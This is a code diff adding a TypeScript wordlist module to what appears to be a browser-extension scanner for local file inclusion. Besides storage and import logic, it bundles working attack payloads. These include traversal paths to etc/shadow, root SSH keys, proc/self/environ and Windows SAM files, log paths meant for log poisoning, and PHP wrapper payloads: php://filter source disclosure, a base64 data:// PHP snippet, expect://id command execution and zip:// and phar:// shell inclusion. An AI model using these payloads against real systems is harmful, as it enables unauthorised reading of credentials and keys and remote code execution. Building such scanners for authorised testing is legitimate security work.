@@ -0,0 +1,264 @@
+import {
+  buildLfiPayloadList,
+  LFI_PAYLOAD_CATEGORIES,
+  type LfiPayloadCategoryId
+} from "~lfiPayloads"
+
+export interface Wordlist {
+  id: string
+  name: string
+  description: string
+  builtIn?: boolean
+  payloads: string[]
+  createdAt?: number
+}
+
+// Which lists and payload categories a scan combines
+export interface WordlistSelection {
+  listIds: string[]
+  categoryIds: LfiPayloadCategoryId[]
+}
+
+// One list or category as recorded in a scan summary
+export interface WordlistUsage {
+  id: string
+  name: string
+  // Payloads this source added after de-duplication and the payload limit
+  payloadCount: number
+}
+
+const STORAGE_KEY = 'customWordlists'
+const SELECTION_KEY = 'wordlistSelection'
+// Keeps a single import from filling extension storage
+export const MAX_WORDLIST_ENTRIES = 50000
+
+const LINUX_FILES = [
+  'etc/passwd',
+  'etc/shadow',
+  'etc/group',
+  'etc/hosts',
+  'etc/hostname',
+  'etc/issue',
+  'etc/motd',
+  'etc/crontab',
+  'etc/fstab',
+  'etc/resolv.conf',
+  'etc/ssh/sshd_config',
+  'etc/mysql/my.cnf',
+  'etc/nginx/nginx.conf',
+  'etc/apache2/apache2.conf',
+  'etc/httpd/conf/httpd.conf',
+  'proc/self/environ',
+  'proc/self/cmdline',
+  'proc/self/status',
+  'proc/version',
+  'proc/mounts',
+  'root/.bash_history',
+  'root/.ssh/id_rsa'
+]
+
+const WINDOWS_FILES = [
+  'windows/win.ini',
+  'windows/system.ini',
+  'windows/system32/drivers/etc/hosts',
+  'windows/repair/sam',
+  'windows/panther/unattend.xml',
+  'inetpub/wwwroot/web.config',
+  'boot.ini'
+]
+
+const LOG_FILES = [
+  'var/log/apache2/access.log',
+  'var/log/apache2/error.log',
+  'var/log/apache/access.log',
+  'var/log/httpd/access_log',
+  'var/log/httpd/error_log',
+  'var/log/nginx/access.log',
+  'var/log/nginx/error.log',
+  'var/log/auth.log',
+  'var/log/syslog',
+  'var/log/messages',
+  'proc/self/fd/0',
+  'proc/self/fd/1',
+  'proc/self/fd/2'
+]
+
+// Each file as an absolute path and behind 1–`depth` levels of `../`
+const withTraversals = (files: string[], depth: number, separator = '/'): string[] =>
+  files.flatMap(file => {
+    const path = file.split('/').join(separator)
+    return [
+      `${separator}${path}`,
+      ...Array.from({ length: depth }, (_, level) => `${`..${separator}`.repeat(level + 1)}${path}`)
+    ]
+  })
+
+export const BUNDLED_WORDLISTS: Wordlist[] = [
+  {
+    id: 'linux-files',
+    name: 'Linux files',
+    description: 'Sensitive Linux files, absolute and up to 8 directories up',
+    builtIn: true,
+    payloads: withTraversals(LINUX_FILES, 8)
+  },
+  {
+    id: 'windows-files',
+    name: 'Windows files',
+    description: 'Windows and IIS files with both path separators',
+    builtIn: true,
+    payloads: [
+      ...WINDOWS_FILES.map(file => `C:/${file}`),
+      ...withTraversals(WINDOWS_FILES, 6),
+      ...withTraversals(WINDOWS_FILES, 6, '\\')
+    ]
+  },
+  {
+    id: 'log-files',
+    name: 'Log files',
+    description: 'Web server and system logs, useful for log poisoning',
+    builtIn: true,
+    payloads: withTraversals(LOG_FILES, 6)
+  },
+  {
+    id: 'php-wrappers',
+    name: 'PHP wrappers',
+    description: 'php:// filters, data:, expect: and file: stream wrappers',
+    builtIn: true,
+    payloads: [
+      'php://filter/convert.base64-encode/resource=index.php',
+      'php://filter/convert.base64-encode/resource=index',
+      'php://filter/convert.base64-encode/resource=config.php',
+      'php://filter/read=string.rot13/resource=index.php',
+      'php://filter/resource=/etc/passwd',
+      'php://input',
+      'php://fd/0',
+      'data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==',
+      'expect://id',
+      'file:///etc/passwd',
+      'file:///c:/windows/win.ini',
+      'zip://shell.jpg%23payload.php',
+      'phar://shell.phar/payload.php'
+    ]
+  }
+]
+
+export const DEFAULT_WORDLIST_SELECTION: WordlistSelection = {
+  listIds: BUNDLED_WORDLISTS.map(list => list.id),
+  categoryIds: LFI_PAYLOAD_CATEGORIES.map(category => category.id)
+}
+
+/**
+ * One payload per line; blank lines and `#` comments are dropped along with
+ * duplicates. Lines are trimmed, so payloads cannot start or end with
+ * whitespace.
+ */
+export const parseWordlist = (text: string): string[] => {
+  const payloads = text
+    .split(/\r?\n/)
+    .map(line => line.trim())
+    .filter(line => line && !line.startsWith('#'))
+  return Array.from(new Set(payloads))
+}
+
+export const loadCustomWordlists = async (): Promise<Wordlist[]> => {
+  try {
+    return (await chrome.storage.local.get(STORAGE_KEY))[STORAGE_KEY] || []
+  } catch (error) {
+    console.warn('Failed to load custom wordlists', error)
+    return []
+  }
+}
+
+// Bundled lists first, then the user's own in the order they were added
+export const loadWordlists = async (): Promise<Wordlist[]> => [
+  ...BUNDLED_WORDLISTS,
+  ...(await loadCustomWordlists())
+]
+
+/**
+ * Store an imported list under `name`, replacing a custom list with the
+ * same name. Throws when the text has no payloads or too many.
+ */
+export const saveCustomWordlist = async (name: string, text: string): Promise<Wordlist> => {
+  const trimmedName = name.trim()
+  if (!trimmedName) throw new Error('Wordlist name is required')
+  if (BUNDLED_WORDLISTS.some(list => list.name.toLowerCase() === trimmedName.toLowerCase())) {
+    throw new Error(`"${trimmedName}" is the name of a bundled wordlist`)
+  }
+  const payloads = parseWordlist(text)
+  if (payloads.length === 0) throw new Error('The file has no payloads')
+  if (payloads.length > MAX_WORDLIST_ENTRIES) {
+    throw new Error(`The file has ${payloads.length} payloads; the limit is ${MAX_WORDLIST_ENTRIES}`)
+  }
+
+  const existing = await loadCustomWordlists()
+  const replaced = existing.find(l => l.name.toLowerCase() === trimmedName.toLowerCase())
+  const list: Wordlist = {
+    // Re-importing under the same name keeps the id, so saved selections still include it
+    id: replaced?.id || `custom-${Date.now().toString(36)}`,
+    name: trimmedName,
+    description: `${payloads.length} imported payloads`,
+    payloads,
+    createdAt: Date.now()
+  }
+  await chrome.storage.local.set({
+    [STORAGE_KEY]: [...existing.filter(l => l !== replaced), list]
+  })
+  return list
+}
+
+export const deleteCustomWordlist = async (id: string): Promise<void> => {
+  const existing = await loadCustomWordlists()
+  await chrome.storage.local.set({ [STORAGE_KEY]: existing.filter(list => list.id !== id) })
+}
+
+// The choice made for the last scan, offered again for the next
+export const loadWordlistSelection = async (): Promise<WordlistSelection> => {
+  try {
+    return (await chrome.storage.local.get(SELECTION_KEY))[SELECTION_KEY] || DEFAULT_WORDLIST_SELECTION
+  } catch (error) {
+    console.warn('Failed to load wordlist selection, using defaults', error)
+    return DEFAULT_WORDLIST_SELECTION
+  }
+}
+
+export const saveWordlistSelection = async (selection: WordlistSelection): Promise<void> => {
+  await chrome.storage.local.set({ [SELECTION_KEY]: selection })
+}
+
+/**
+ * Combine the selected categories and lists, categories first, into one
+ * de-duplicated payload list of at most `limit` entries. The usage entries
+ * credit each payload to the first source that contributed it, so they add
+ * up to the number of payloads returned.
+ */
+export const buildWordlistPayloads = (
+  selection: WordlistSelection,
+  lists: Wordlist[],
+  limit = Infinity
+): { payloads: string[], usage: WordlistUsage[] } => {
+  const sources = [
+    ...LFI_PAYLOAD_CATEGORIES
+      .filter(category => selection.categoryIds.includes(category.id))
+      .map(category => ({
+        id: `category:${category.id}`,
+        name: category.label,
+        payloads: buildLfiPayloadList([category.id])
+      })),
+    ...lists.filter(list => selection.listIds.includes(list.id))
+  ]
+
+  const seen = new Set<string>()
+  const usage: WordlistUsage[] = []
+  for (const source of sources) {
+    let payloadCount = 0
+    for (const payload of source.payloads) {
+      if (seen.size >= limit) break
+      if (seen.has(payload)) continue
+      seen.add(payload)
+      payloadCount++
+    }
+    usage.push({ id: source.id, name: source.name, payloadCount })
+  }
+  return { payloads: Array.from(seen), usage }
+}